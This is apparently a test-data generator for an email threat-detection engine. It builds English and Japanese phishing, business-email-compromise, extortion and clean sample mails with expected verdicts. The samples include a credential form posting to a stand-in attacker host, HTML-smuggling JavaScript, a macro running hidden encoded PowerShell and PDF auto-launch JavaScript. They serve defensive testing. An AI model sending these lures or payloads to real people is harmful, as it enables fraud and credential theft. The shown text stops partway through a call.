#!/usr/bin/env python3
"""tests/detect/mkdata.py: write the team's test mail to tests/detect/data/.

Every message is written here, by hand, for one behaviour of the engine;
binary parts (zip, OOXML, PDF, QR code PNG) are built by this script so
that nothing opaque is committed.  Japanese mail is encoded the way mail
programs send it: ISO-2022-JP (with NEC special characters, as Windows
sends them), Shift_JIS in base64, EUC-JP in 8 bits, UTF-8 in quoted-
printable.  Run it again after a change (needs python3, qrencode,
cjpeg, Debian's libjpeg-turbo-progs, gif2webp and qpdf); the output is
deterministic.  expect.txt pins the verdict and rules of each
(a rule written "!rule" is one that must not fire: a reading it guards
against).
"""
import base64
import io
import math
import os
import quopri
import struct
import random
import subprocess
import tempfile
import zipfile
import zlib

OUT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "data")
DATE = "Mon, 02 Nov 2026 09:30:00 +0900"
EXPECT = []
PDFDRAW_SEEDS = []   # content streams for the detect_pdfdraw fuzz target
SVGDRAW_SEEDS = []   # SVG pictures for the detect_svgdraw fuzz target
PICTURE_SEEDS = []   # pictures for the detect_picture fuzz target
DOCTEXT_SEEDS = []   # objects and streams for the detect_pdftext target


# A Word document's content types: its main part word/document.xml.
DOCX_TYPES = ('<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://'
              'schemas.openxmlformats.org/package/2006/content-types">'
              '<Override PartName="/word/document.xml" ContentType="'
              'application/vnd.openxmlformats-officedocument.'
              'wordprocessingml.document.main+xml"/></Types>')


def write(name, data, verdict, *rules):
    if isinstance(data, str):
        data = data.encode("utf-8")
    data = data.replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")
    with open(os.path.join(OUT, name), "wb") as f:
        f.write(data)
    EXPECT.append("%s %s %s" % (name, verdict, " ".join(rules)))


def b64(data, width=76):
    s = base64.b64encode(data).decode()
    return "\n".join(s[i:i + width] for i in range(0, len(s), width))


def zipbytes(files, comp=zipfile.ZIP_DEFLATED):
    bio = io.BytesIO()
    with zipfile.ZipFile(bio, "w", comp) as z:
        for name, data in files:
            zi = zipfile.ZipInfo(name, date_time=(2026, 11, 2, 9, 30, 0))
            zi.compress_type = comp
            z.writestr(zi, data)
    return bio.getvalue()


def sjis_to_jis(b):
    """CP932 bytes to ISO-2022-JP (NEC rows kept, as Windows does)."""
    out = bytearray()
    mode = "ascii"
    i = 0
    while i < len(b):
        c = b[i]
        if c < 0x80:
            if mode != "ascii":
                out += b"\x1b(B"
                mode = "ascii"
            out.append(c)
            i += 1
            continue
        s1, s2 = c, b[i + 1]
        if s1 >= 0xe0:
            s1 -= 0x40
        j1 = (s1 - 0x81) * 2 + 0x21
        if s2 >= 0x9f:
            j1 += 1
            j2 = s2 - 0x9f + 0x21
        else:
            j2 = s2 - 0x40 + 0x21 - (1 if s2 >= 0x80 else 0)
        if mode != "jis":
            out += b"\x1b$B"
            mode = "jis"
        out += bytes([j1, j2])
        i += 2
    if mode != "ascii":
        out += b"\x1b(B"
    return bytes(out)


def jis(text):
    return b"\n".join(sjis_to_jis(l.encode("cp932"))
                      for l in text.split("\n"))


def ew(unused, charset, raw):
    """An RFC 2047 encoded word of raw bytes in charset."""
    return "=?%s?B?%s?=" % (charset, base64.b64encode(raw).decode())


def qr_png(url):
    """A QR code of url as qrencode draws it: PNG, 6 pixels a module."""
    return subprocess.run(
        ["qrencode", "-o", "-", "-t", "PNG", "-s", "6", "-m", "4", url],
        stdout=subprocess.PIPE, check=True).stdout


def qr_matrix(url, margin=4, version=None, level="L"):
    """qrencode's modules of url, rows of 1 (dark) and 0."""
    args = ["qrencode", "-t", "ASCII", "-m", str(margin), "-l", level]
    if version is not None:
        args += ["-v", str(version)]
    rows = subprocess.run(args + [url], stdout=subprocess.PIPE,
                          check=True).stdout.decode().splitlines()
    return [[1 if r[i] == "#" else 0 for i in range(0, len(r), 2)]
            for r in rows if r]


def qr_grey(url, scale=5, margin=4, level="L"):
    """The code of url as rows of grey pixels, scale to the module."""
    rows = []
    for r in qr_matrix(url, margin, level=level):
        line = bytes(0 if v else 255 for v in r for _ in range(scale))
        rows.extend([line] * scale)
    return rows


def dark_runs(m):
    """Each run of dark modules of m: (row, first column, length)."""
    for y, row in enumerate(m):
        x = 0
        while x < len(row):
            if row[x]:
                k = x
                while k < len(row) and row[k]:
                    k += 1
                yield y, x, k - x
                x = k
            else:
                x += 1


def grey_png(rows):
    """Rows of grey pixels as a PNG (8 bits, no filter)."""
    def chunk(kind, data):
        return (struct.pack(">I", len(data)) + kind + data +
                struct.pack(">I", zlib.crc32(kind + data)))
    ihdr = struct.pack(">IIBBBBB", len(rows[0]), len(rows), 8, 0, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) +
            chunk(b"IDAT", zlib.compress(b"".join(b"\0" + r for r in rows)))
            + chunk(b"IEND", b""))


def ga_png(rows, alpha):
    """Grey rows and their alpha rows as a PNG (grey and alpha, 8 bits)."""
    def chunk(kind, data):
        return (struct.pack(">I", len(data)) + kind + data +
                struct.pack(">I", zlib.crc32(kind + data)))
    ihdr = struct.pack(">IIBBBBB", len(rows[0]), len(rows), 8, 4, 0, 0, 0)
    raw = b"".join(b"\0" + bytes(v for px in zip(r, a) for v in px)
                   for r, a in zip(rows, alpha))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) +
            chunk(b"IDAT", zlib.compress(raw)) + chunk(b"IEND", b""))


class LsbBits:
    """Bits packed least significant first, as GIF's LZW codes and WebP's
    lossless stream are."""

    def __init__(self):
        self.out, self.acc, self.n = bytearray(), 0, 0

    def put(self, v, n):
        self.acc |= v << self.n
        self.n += n
        while self.n >= 8:
            self.out.append(self.acc & 255)
            self.acc >>= 8
            self.n -= 8

    def done(self):
        if self.n:
            self.out.append(self.acc & 255)
        return bytes(self.out)


def lzw(data, min_size):
    """GIF's LZW of data (codes of min_size + 1 bits up to 12, LSB first)."""
    clear, eoi = 1 << min_size, (1 << min_size) + 1
    bits = LsbBits()
    size, table, nxt = min_size + 1, {}, eoi + 1

    def emit(code):
        bits.put(code, size)
    emit(clear)
    w = bytes(data[:1])
    for c in data[1:]:
        wc = w + bytes([c])
        if wc in table or len(wc) == 1:
            w = wc
            continue
        emit(table[w] if len(w) > 1 else w[0])
        if nxt < 4096:
            table[wc] = nxt
            nxt += 1
            if nxt > (1 << size) and size < 12:
                size += 1
        else:
            emit(clear)
            size, table, nxt = min_size + 1, {}, eoi + 1
        w = bytes([c])
    emit(table[w] if len(w) > 1 else w[0])
    emit(eoi)
    return bits.done()


def gif(rows, palette, transparent=None, screen=None, at=(0, 0)):
    """Rows of palette indices as a GIF89a picture (palette: (r, g, b)s,
    a power of two of them), the index transparent if given, on a screen
    (w, h) of its own size unless given, at (left, top)."""
    return gif_anim(screen or (len(rows[0]), len(rows)), palette,
                    [(rows, at, 0, 0, transparent)])


def gif_anim(screen, palette, frames, loop=True):
    """An animated GIF89a on a screen (w, h): frames of (rows of palette
    indices, (left, top), delay in hundredths of a second, disposal (0
    or 1 left, 2 cleared, 3 put back), transparent index or None),
    looping for ever unless loop is false."""
    bits = max(1, (len(palette) - 1).bit_length())
    pal = b"".join(bytes(c) for c in palette)
    out = b"GIF89a" + struct.pack("<HHBBB", screen[0], screen[1],
                                  0x80 | (bits - 1), 0, 0) + pal
    if len(frames) > 1 and loop:     # loop for ever
        out += b"\x21\xff\x0bNETSCAPE2.0\x03\x01\x00\x00\x00"
    for rows, at, delay, disposal, transparent in frames:
        if delay or disposal or transparent is not None:
            out += (b"\x21\xf9\x04" + bytes([disposal << 2 | (
                transparent is not None)]) + struct.pack("<H", delay) +
                bytes([transparent or 0]) + b"\0")
        out += b"\x2c" + struct.pack("<HHHHB", at[0], at[1], len(rows[0]),
                                     len(rows), 0)
        data = lzw(b"".join(bytes(r) for r in rows), max(2, bits))
        out += bytes([max(2, bits)])
        for i in range(0, len(data), 255):
            out += bytes([len(data[i:i + 255])]) + data[i:i + 255]
        out += b"\0"
    return out + b"\x3b"


def webp_lossless(rows):
    """Black-and-white rows (0 or 255) as a lossless WebP picture (VP8L):
    no transform, no colour cache, each channel a simple prefix code of
    its two values (one bit a channel a pixel), alpha always 255."""
    bits = LsbBits()
    put = bits.put
    w, h = len(rows[0]), len(rows)
    put(0x2f, 8)
    put(w - 1, 14)
    put(h - 1, 14)
    put(0, 1)           # alpha not used
    put(0, 3)           # version
    put(0, 1)           # no transform
    put(0, 1)           # no colour cache
    put(0, 1)           # no meta prefix codes
    for _ in range(3):  # green, red, blue: simple codes of 0 and 255
        put(1, 1)
        put(1, 1)
        put(0, 1)
        put(0, 1)
        put(255, 8)
    for sym in (255, 0):  # alpha 255, distance 0: one symbol, no bits
        put(1, 1)
        put(0, 1)
        put(1, 1)
        put(sym, 8)
    for r in rows:
        for v in r:
            b = 1 if v else 0
            put(b, 1)
            put(b, 1)
            put(b, 1)
    out = bits.done()
    body = out + (b"\0" if len(out) % 2 else b"")
    chunk = b"VP8L" + struct.pack("<I", len(out)) + body
    return b"RIFF" + struct.pack("<I", 4 + len(chunk)) + b"WEBP" + chunk


def bmp(rows):
    """Black-and-white rows (0 or 255) as a Windows bitmap of one bit a
    pixel, bottom-up, with a palette of black and white."""
    w, h = len(rows[0]), len(rows)
    stride = (w + 31) // 32 * 4
    data = b""
    for r in reversed(rows):
        bits = bytearray(stride)
        for x, v in enumerate(r):
            if v:
                bits[x // 8] |= 0x80 >> (x % 8)
        data += bytes(bits)
    off = 14 + 40 + 8
    return (b"BM" + struct.pack("<IHHI", off + len(data), 0, 0, off) +
            struct.pack("<IiiHHIIiiII", 40, w, h, 1, 1, 0, len(data), 2835,
                        2835, 2, 2) + b"\0\0\0\0\xff\xff\xff\0" + data)


def auth_pass(dom):
    """Authentication-Results as Exchange Online writes them for mail from
    dom that passed SPF, DKIM, DMARC and composite authentication."""
    return ("Authentication-Results: spf=pass smtp.mailfrom=%s; dkim=pass "
            "header.d=%s; dmarc=pass action=none header.from=%s; "
            "compauth=pass reason=100\n" % (dom, dom, dom))


def headers(frm, subject, extra=""):
    mid = sum(ord(c) * (i + 1) for i, c in enumerate(subject)) % 10**9
    return ("From: %s\nTo: taro.yamada@contoso.com\nSubject: %s\n"
            "Date: %s\nMessage-ID: <%d@mail.test>\nMIME-Version: 1.0\n%s"
            % (frm, subject, DATE, mid, extra))


def main():
    os.makedirs(OUT, exist_ok=True)

    # A comma in a quoted name is well-formed (sender.several_from not).
    write("en-01-clean-plain.eml", headers(
        '"Brown, Alice" <alice@fabrikam.com>',
        "Minutes of Tuesday's meeting") +
        "Content-Type: text/plain; charset=us-ascii\n\n"
        "Hi Taro,\n\nThe minutes are on our wiki as usual:\n"
        "https://wiki.fabrikam.com/meetings/2026-11-01\n\n"
        "Next meeting is on Thursday at 10:00.\n\nAlice\n", "clean")

    write("en-02-phish-microsoft.eml", headers(
        '"Microsoft account team" <no-reply@account-security-mail.top>',
        "Unusual sign-in activity") +
        "Content-Type: text/html; charset=utf-8\n\n"
        "<html><body><p>We detected unusual sign-in activity on your "
        "Microsoft account.</p><p>Verify your account within 24 hours or "
        "it will be suspended.</p>"
        '<p><a href="https://micros0ft-login.com/verify?id=8812">'
        "https://account.microsoft.com/security</a></p>"
        "<p>The Microsoft account team</p></body></html>\n",
        "threat", "sender.display_brand", "url.lookalike_brand",
        "url.text_mismatch_brand", "content.credential_urgent")

    write("en-03-bec-giftcard.eml", headers(
        '"John Smith CEO" <john.smith.ceo.office@gmail.com>',
        "Quick favor") + "Content-Type: text/plain; charset=utf-8\n\n"
        "Hi Taro,\n\nAre you available? I'm in a meeting and can't talk.\n"
        "I need you to purchase some gift cards for a client today, "
        "Apple gift cards, 5 x $200.\nScratch off the back and send me "
        "the codes by email.\n\nJohn Smith\nCEO\n",
        "threat", "content.gift_card", "sender.freemail_executive",
        "sender.display_person")

    write("en-04-bec-bankchange.eml", headers(
        "Accounts Receivable <ar@fabrikam-billing.com>",
        "Updated banking information",
        "Reply-To: fabrikam.ar.dept@outlook.com\n") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Dear customer,\n\nPlease note that our bank details have changed. "
        "Kindly remit payment to our new bank account for invoice "
        "INV-20931 below:\n\nIBAN: GB33 BUKB 2020 1555 5555 55\n"
        "SWIFT code: BUKBGB22\n\nThis is urgent, the old account is "
        "currently under audit.\n\nRegards,\nAccounts Receivable\n",
        "threat", "content.payment_change", "sender.replyto_freemail",
        "sender.name_in_domain")

    write("en-05-extortion.eml", headers(
        "<hacker@anon-mailer.net>", "Your account was hacked") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "I have access to your device. I infected your computer with "
        "spyware and recorded a video of you through your webcam while "
        "you were visiting adult websites.\nTransfer $1500 in Bitcoin to "
        "this bitcoin address: bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh\n"
        "You have 48 hours. If I do not receive the payment, I will send "
        "the video to all your contacts. If you pay, I will delete the "
        "video.\n", "threat", "content.extortion")

    pe = (b"MZ" + b"\x90\x00" * 29 + b"\x00\x00" + b"\x40\x00\x00\x00" +
          b"PE\x00\x00" + b"\x4c\x01" + b"\x00" * 200)
    z = zipbytes([("Invoice_2024.pdf.exe", pe)])
    write("en-06-zip-exe.eml", headers(
        "Billing <billing@invoices-portal.xyz>", "Invoice 2024-11") +
        'Content-Type: multipart/mixed; boundary="b1"\n\n--b1\n'
        "Content-Type: text/plain; charset=utf-8\n\nPlease find the "
        "invoice attached.\n\n--b1\nContent-Type: application/zip; "
        'name="Invoice_2024.zip"\nContent-Disposition: attachment; '
        'filename="Invoice_2024.zip"\nContent-Transfer-Encoding: base64\n\n'
        + b64(z) + "\n--b1--\n", "threat", "attach.executable",
        "attach.double_extension")

    smuggle = (
        "<html><body><script>\nvar d = atob('UEsDBBQAAAAIAAAAIQ" +
        "A" * 64 + "');\nvar a = new Uint8Array(d.length);\n"
        "for (var i = 0; i < d.length; i++) a[i] = d.charCodeAt(i);\n"
        "var b = new Blob([a], {type: 'application/zip'});\n"
        "var l = document.createElement('a');\n"
        "l.href = URL.createObjectURL(b);\nl.download = 'document.zip';\n"
        "document.body.appendChild(l); l.click();\n</script>"
        "<p>Loading your document...</p></body></html>\n")
    write("en-07-html-smuggling.eml", headers(
        "Scanner <scanner@docs-delivery.click>", "Scanned document") +
        'Content-Type: multipart/mixed; boundary="b1"\n\n--b1\n'
        "Content-Type: text/plain; charset=utf-8\n\nYour scanned document "
        "is attached.\n\n--b1\nContent-Type: text/html; "
        'name="Scan_0931.html"\nContent-Disposition: attachment; '
        'filename="Scan_0931.html"\nContent-Transfer-Encoding: base64\n\n'
        + b64(smuggle.encode()) + "\n--b1--\n", "threat",
        "attach.html_smuggling", "yara.html_smuggling_blob")

    cred = ("<html><head><title>Sign in to your account</title></head>"
            "<body><h2>Microsoft 365</h2><p>Your session expired. Sign in "
            "to view the shared file.</p>"
            '<form method="post" action="https://collect.evil-forms.top/next.php">'
            '<input type="email" name="login" value="taro.yamada@contoso.com">'
            '<input type="password" name="passwd">'
            '<button type="submit">Sign in</button></form></body></html>\n')
    write("en-08-html-credform.eml", headers(
        "SharePoint <share@files-share-notify.top>",
        "Taro Yamada shared \"Q4 salaries.xlsx\" with you") +
        'Content-Type: multipart/mixed; boundary="b1"\n\n--b1\n'
        "Content-Type: text/plain; charset=utf-8\n\nOpen the attached "
        "file to view the document.\n\n--b1\nContent-Type: text/html; "
        'name="Q4_salaries.htm"\nContent-Disposition: attachment; '
        'filename="Q4_salaries.htm"\nContent-Transfer-Encoding: base64\n\n'
        + b64(cred.encode()) + "\n--b1--\n", "threat",
        "attach.html_credential_form", "sender.display_brand")

    docm = zipbytes([
        ("[Content_Types].xml",
         '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats'
         '.org/package/2006/content-types"><Override PartName="/word/'
         'document.xml" ContentType="application/vnd.ms-word.document.'
         'macroEnabled.main+xml"/></Types>'),
        ("word/document.xml", "<w:document><w:body><w:p><w:r><w:t>Enable "
         "content to see this document.</w:t></w:r></w:p></w:body>"
         "</w:document>"),
        ("word/vbaProject.bin",
         b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504 +
         b"Attribute VB_Name = \"ThisDocument\"\r\nSub AutoOpen()\r\n"
         b"  Set s = CreateObject(\"WScript.Shell\")\r\n"
         b"  s.Run \"powershell -nop -w hidden -e SQBFAFgA\"\r\nEnd Sub\r\n"),
    ])
    write("en-09-docm-macro.eml", headers(
        "HR <hr@payroll-update.info>", "Salary review 2027") +
        'Content-Type: multipart/mixed; boundary="b1"\n\n--b1\n'
        "Content-Type: text/plain; charset=utf-8\n\nPlease review the "
        "attached document and enable editing.\n\n--b1\n"
        "Content-Type: application/vnd.ms-word.document.macroEnabled.12; "
        'name="Salary_review.docm"\nContent-Disposition: attachment; '
        'filename="Salary_review.docm"\nContent-Transfer-Encoding: base64\n\n'
        + b64(docm) + "\n--b1--\n", "threat", "attach.macro",
        "yara.maldoc_autoexec_shell")

    qr = qr_png("https://mfa-reset.mailbox-verify.top/v?u=taro.yamada")
    write("en-10-qr.eml", headers(
        "IT Service Desk <it-desk@mfa-notice.top>",
        "Action required: re-enable two-factor authentication") +
        'Content-Type: multipart/related; boundary="b1"\n\n--b1\n'
        "Content-Type: text/html; charset=utf-8\n\n<html><body>"
        "<p>Your multi-factor authentication expires today. Scan the QR "
        "code below with your phone to keep access to your mailbox.</p>"
        '<img src="cid:qr1@test"></body></html>\n--b1\n'
        'Content-Type: image/png; name="qr.png"\nContent-ID: <qr1@test>\n'
        'Content-Disposition: inline; filename="qr.png"\n'
        "Content-Transfer-Encoding: base64\n\n" + b64(qr) + "\n--b1--\n",
        "threat", "attach.qr_code", "url.risky_tld",
        "content.credential_urgent")

    pdf = (b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R "
           b"/OpenAction 4 0 R >> endobj\n2 0 obj << /Type /Pages /Kids "
           b"[3 0 R] /Count 1 >> endobj\n3 0 obj << /Type /Page /Parent "
           b"2 0 R /Annots [5 0 R] >> endobj\n4 0 obj << /S /JavaScript "
           b"/JS (app.launchURL\\(\"https://pdf-docs.view-online.top/d\"\\);) "
           b">> endobj\n5 0 obj << /Type /Annot /Subtype /Link /A << /S "
           b"/URI /URI (https://pdf-docs.view-online.top/d) >> >> endobj\n"
           b"trailer << /Root 1 0 R >>\n%%EOF\n")
    write("en-11-pdf-js.eml", headers(
        "Docs <docs@view-online.top>", "Document for signature") +
        'Content-Type: multipart/mixed; boundary="b1"\n\n--b1\n'
        "Content-Type: text/plain; charset=utf-8\n\nPlease sign the "
        "attached document.\n\n--b1\nContent-Type: application/pdf; "
        'name="contract.pdf"\nContent-Disposition: attachment; '
        'filename="contract.pdf"\nContent-Transfer-Encoding: base64\n\n'
        + b64(pdf) + "\n--b1--\n", "threat", "attach.pdf_javascript",
        "attach.pdf_link_lure")

    write("en-12-spoof-own.eml",
          "Received: from mail.spoofer.example (203.0.113.9) by "
          "TYCPR01MB0000.jpnprd01.prod.outlook.com\n"
          "Authentication-Results: spf=fail (sender IP is 203.0.113.9) "
          "smtp.mailfrom=contoso.com; dkim=none (message not signed) "
          "header.d=none;dmarc=fail action=oreject "
          "header.from=contoso.com;compauth=fail reason=000\n"
          "Received-SPF: Fail (protection.outlook.com: domain of contoso.com "
          "does not designate 203.0.113.9 as permitted sender)\n" +
          headers("Payroll <payroll@contoso.com>", "Payslip for November") +
          "Content-Type: text/plain; charset=utf-8\n\nYour payslip is ready."
          "\n", "threat", "sender.spoof_own_domain", "auth.dmarc_fail",
          "auth.compauth_fail")

    write("en-13-lookalike-sender.eml", headers(
        "IT Support <it-support@c0ntoso.com>", "Password expiry notice") +
        "Content-Type: text/html; charset=utf-8\n\n<p>Dear "
        "taro.yamada@contoso.com,</p><p>Your password expires today. "
        'Click <a href="https://c0ntoso.com/keep">here</a> to keep your '
        "password.</p>\n", "threat", "sender.lookalike_own",
        "url.lookalike_own", "content.address_greeting")

    write("en-14-idn-homoglyph.eml", headers(
        "PayPal <service@paypal-notice.info>", "Your payment was declined") +
        "Content-Type: text/html; charset=utf-8\n\n<p>Your payment was "
        "declined. Update your payment method:</p><p><a href=\"https://"
        "p\u0430ypal.com/signin\">paypal.com</a></p>\n", "threat",
        "url.lookalike_brand", "sender.display_brand")

    write("en-15-obfuscated.eml", headers(
        "Wallet Support <support@wallet-help.info>",
        "[Wall\u0435t Susp\u0435nded] You may los\u0435 all your ass\u0435ts") +
        "Content-Type: text/plain; charset=utf-8\n\nYour wall\u0435t has "
        "been susp\u0435nded. Validate your wallet with your 12-word "
        "recovery phrase: https://wallet-validate.app-sync.top/\n",
        "threat", "content.obfuscated_text", "content.wallet_phrase")

    write("en-17-clean-newsletter.eml", headers(
        "Northwind Books <news@northwindbooks.com>", "November picks") +
        'Content-Type: multipart/alternative; boundary="b1"\n\n--b1\n'
        "Content-Type: text/plain; charset=utf-8\n\nOur November picks: "
        "https://www.northwindbooks.com/picks/2026-11\n\n--b1\n"
        "Content-Type: text/html; charset=utf-8\n\n<html><body>"
        '<div style="display:none">Five novels for long evenings</div>'
        "<h1>November picks</h1><p>Five novels for long evenings, chosen "
        "by our booksellers.</p>"
        '<a href="https://www.northwindbooks.com/picks/2026-11">'
        '<img src="https://img.northwindbooks.com/nov.jpg" alt="picks">'
        "</a><p>You receive this because you subscribed at "
        "northwindbooks.com. "
        '<a href="https://www.northwindbooks.com/unsubscribe">Unsubscribe'
        "</a></p></body></html>\n--b1--\n", "clean")

    write("en-19-advance-fee.eml", headers(
        '"Barrister James Cole" <jcole.chambers@yahoo.com>',
        "Inheritance of your late relative") +
        "Content-Type: text/plain; charset=utf-8\n\nDear friend,\n\nI am "
        "Barrister James Cole, personal attorney to the late client who "
        "died without next of kin. He left the sum of US$10.5 million "
        "dollars in a dormant account. I seek your consent to present you "
        "as the beneficiary so that the funds can be transferred to you. "
        "Kindly reply with your full name and your phone number.\n\nGod "
        "bless,\nJames Cole\n", "threat", "content.advance_fee")

    write("en-20-brand-freemail.eml", headers(
        "DocuSign <docs.signing2291@gmail.com>", "Please review and sign") +
        "Content-Type: text/html; charset=utf-8\n\n"
        "<html><body><p>You have received a document to review and sign."
        "</p><p><a href=\"https://review-docs.example.net/d/4471\">"
        "REVIEW DOCUMENT</a></p></body></html>\n",
        "threat", "sender.display_brand", "sender.brand_freemail",
        "sender.brand_links_elsewhere")

    write("en-21-callback.eml", headers(
        "Billing Department <orders.desk@shopfast-billing.net>",
        "Invoice no. 88120-A: subscription renewed") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Dear customer,\n\nYour yearly subscription has been renewed "
        "successfully and $399.99 will be charged to your card within 24 "
        "hours.\n\nIf you did not authorize this renewal, call us at "
        "+1 (808) 555-0199 to cancel and get a full refund.\n\nBilling "
        "Department\n", "threat", "content.callback", "content.bayes_spam")

    write("en-22-crypto-airdrop.eml", headers(
        "Community Team <news@token-drop-community.net>",
        "Claim your XRP share today") +
        "Content-Type: text/html; charset=utf-8\n\n"
        "<html><body><p>The community XRP airdrop distribution is live. "
        "Eligible wallets can claim your tokens now:</p>"
        "<p><a href=\"https://xrp-drop.example.org/claim\">Claim now</a>"
        "</p></body></html>\n", "potential", "content.crypto_giveaway")

    write("en-23-display-domain.eml", headers(
        '"Blockchain.com" <infoewb@energy-supplier.net>',
        "Your wallet has been temporarily suspended") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "A new device was used to access your wallet. Open the app to "
        "check it.\n", "threat", "sender.display_address_brand",
        "sender.display_brand")

    write("en-24-donation-freemail.eml", headers(
        "Albert Kone <albert.kone.fdn@gmail.com>", "Hello") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Mr. Albert Kone has donated $ 3,500,000.00 USD to you for the "
        "purpose of charity. Contact albert.kone.fdn@gmail.com for how to "
        "receive your donation.\n", "threat", "content.advance_fee")

    # Three ways of hiding who sends it and what it says: a threat.
    write("en-27-image-only.eml", headers(
        "Gewinner Team, <news@promo-mailer.net>", "Ihr Gutschein wartet") +
        "Content-Type: text/html; charset=utf-8\n\n"
        '<html><body><a href="https://gutschein-gewinn.example.org/c?id=7">'
        '<img src="https://i.imgur.com/Hr5TM3Y.png"></a></body></html>\n',
        "threat", "html.image_only", "sender.several_from",
        "url.image_hosting")

    write("en-28-brand-domain-hosting.eml", headers(
        "PayPal <service@paypal.com>", "Your account access is limited") +
        "Content-Type: text/html; charset=utf-8\n\n"
        "<html><body><p>We noticed unusual activity. Your account has been "
        "limited until you confirm your identity.</p>"
        '<p><a href="https://pp-review-4471.web.app/login">Confirm now</a>'
        "</p></body></html>\n", "threat", "sender.brand_domain_hosting",
        "url.free_hosting", "content.credential_request")

    write("en-29-brand-lure.eml", headers(
        "Parcel Service <tracking@parcel-status-center.net>",
        "DHL: your parcel could not be delivered") +
        "Content-Type: text/html; charset=utf-8\n\n"
        "<html><body><p>DHL Express</p><p>Your parcel could not be "
        "delivered: a customs fee of 2.99 EUR is due. Schedule delivery "
        'here:</p><p><a href="https://dhl-redelivery.parcel-status-center'
        '.net/pay">Schedule delivery</a></p></body></html>\n',
        "threat", "content.delivery_lure", "content.brand_links_elsewhere",
        "content.brand_subject")

    # Legitimate mail that looks a little like the above.
    write("en-25-clean-site-newsletter.eml", headers(
        "Comics.com <newsletter@mailer.example-media.net>",
        "Today's strips") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Today's strips are up: https://www.comics.com/today\n\n"
        "To stop these mails, reply with 'remove'.\n", "clean")

    write("en-26-clean-receipt.eml", headers(
        "Fabrikam Store <orders@store.fabrikam.com>",
        "Your subscription has been renewed") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Hello Taro,\n\nYour yearly subscription has been renewed and "
        "$49.00 will be charged to your card on file. Manage it at "
        "https://store.fabrikam.com/account\n\nIf you did not authorize "
        "this renewal, call us at +1 (425) 555-0100 to cancel.\n", "clean")

    # --- Japanese ---
    subj = "【重要】Amazonアカウントの確認のお願い"
    body = ("Amazonをご利用いただきありがとうございます。\n"
            "お客様のアカウントで不審なログインが検出されました。\n"
            "24時間以内にアカウントを確認しない場合、ご利用を一時停止させて"
            "いただきます。\n① 下記のリンクからログインしてください\n"
            "② お支払い方法を更新してください\n"
            "https://amazon-co-jp.account-check.top/signin\n"
            "Amazon カスタマーサービス\n")
    write("ja-01-phish-amazon-iso2022jp.eml",
          ("From: %s <info@amazon-jp-support.top>\n" %
           ew(None, "ISO-2022-JP", jis("Amazon.co.jp"))).encode() +
          ("To: taro.yamada@contoso.com\nSubject: %s\nDate: %s\n"
           "Message-ID: <ja01@mail.test>\nMIME-Version: 1.0\n"
           "Content-Type: text/plain; charset=ISO-2022-JP\n"
           "Content-Transfer-Encoding: 7bit\n\n" %
           (ew(None, "ISO-2022-JP", jis(subj)), DATE)).encode() +
          jis(body) + b"\n", "threat", "sender.display_brand",
          "content.credential_urgent", "content.brand_subject")

    subj = "至急のお願い"
    body = ("山田さん\n\nお疲れ様です。今対応できますか。\n"
            "取引先への支払いの件で、振込先の変更がありました。\n"
            "本日中に下記の新しい口座へ送金をお願いします。\n"
            "この件は内密にお願いします。会議中のためメールで連絡ください。\n\n"
            "代表取締役社長 鈴木一郎\n")
    write("ja-02-bec-sjis.eml",
          ("From: %s <ichiro.suzuki.office@gmail.com>\n" %
           ew(None, "Shift_JIS", "代表取締役社長 鈴木一郎".encode("cp932"))) +
          ("To: taro.yamada@contoso.com\nSubject: %s\nDate: %s\n"
           "Message-ID: <ja02@mail.test>\nMIME-Version: 1.0\n"
           "Content-Type: text/plain; charset=Shift_JIS\n"
           "Content-Transfer-Encoding: base64\n\n%s\n" %
           (ew(None, "Shift_JIS", subj.encode("cp932")), DATE,
            b64(body.encode("cp932")))), "threat",
          "content.payment_change", "sender.freemail_executive",
          "content.wire_urgent")

    subj = "定例会議の議事録"
    body = ("山田様\n\n先日の定例会議の議事録を共有いたします。\n"
            "次回は11月10日（火）10時から第2会議室で行います。\n"
            "ご確認のほどよろしくお願いいたします。\n\n総務部 佐藤\n")
    write("ja-03-clean-eucjp.eml",
          ("From: =?EUC-JP?B?%s?= <sato@fabrikam.com>\nTo: "
           "taro.yamada@contoso.com\nSubject: =?EUC-JP?B?%s?=\nDate: %s\n"
           "Message-ID: <ja03@mail.test>\nMIME-Version: 1.0\n"
           "Content-Type: text/plain; charset=EUC-JP\n"
           "Content-Transfer-Encoding: 8bit\n\n" %
           (base64.b64encode("佐藤花子".encode("euc_jp")).decode(),
            base64.b64encode(subj.encode("euc_jp")).decode(),
            DATE)).encode() + body.encode("euc_jp"), "clean")

    body = ("山田様\n\n先ほどお送りした「見積書.zip」のパスワードを"
            "お知らせします。\n\nパスワード：Xk7pQ2mZ\n\n"
            "よろしくお願いいたします。\n")
    write("ja-04-ppap-password-utf8.eml",
          "From: =?UTF-8?B?%s?= <sato@fabrikam.com>\nTo: "
          "taro.yamada@contoso.com\nSubject: =?UTF-8?B?%s?=\nDate: %s\n"
          "Message-ID: <ja04@mail.test>\nMIME-Version: 1.0\n"
          "Content-Type: text/plain; charset=UTF-8\n"
          "Content-Transfer-Encoding: quoted-printable\n\n%s\n" %
          (base64.b64encode("佐藤花子".encode()).decode(),
           base64.b64encode("パスワードのお知らせ".encode()).decode(), DATE,
           quopri.encodestring(body.encode()).decode()), "clean")

    html = ("<html><body><h1>11月のおすすめ</h1><p>今月は秋の新刊を"
            "ご紹介します。</p><p><a href=\"https://www.northwindbooks.co.jp/"
            "picks\">おすすめを見る</a></p><p>配信停止は<a href=\"https://"
            "www.northwindbooks.co.jp/unsubscribe\">こちら</a></p>"
            "</body></html>\n")
    write("ja-05-clean-utf8-newsletter.eml",
